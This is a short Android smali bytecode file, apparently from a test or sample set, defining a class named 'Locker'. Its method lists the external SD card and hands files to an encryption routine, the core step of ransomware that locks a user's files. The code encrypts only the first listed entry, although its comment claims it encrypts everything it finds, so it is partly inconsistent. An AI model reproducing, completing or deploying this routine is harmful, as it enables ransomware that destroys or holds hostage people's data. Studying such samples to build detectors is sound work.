.class public Lorg/example/rules/Locker;
.super Ljava/lang/Object;

# Lists the SD card and encrypts what it finds.
.method public static run(Ljavax/crypto/Cipher;)V
    .registers 6
    invoke-static {}, Landroid/os/Environment;->getExternalStorageDirectory()Ljava/io/File;
    move-result-object v0
    invoke-virtual {v0}, Ljava/io/File;->listFiles()[Ljava/io/File;
    move-result-object v1
    const/4 v2, 0
    aget-object v3, v1, v2
    invoke-virtual {v3}, Ljava/io/File;->getPath()Ljava/lang/String;
    move-result-object v4
    invoke-static {v4, p0}, Lorg/example/rules/Crypt;->encrypt(Ljava/lang/String;Ljavax/crypto/Cipher;)V
    return-void
.end method
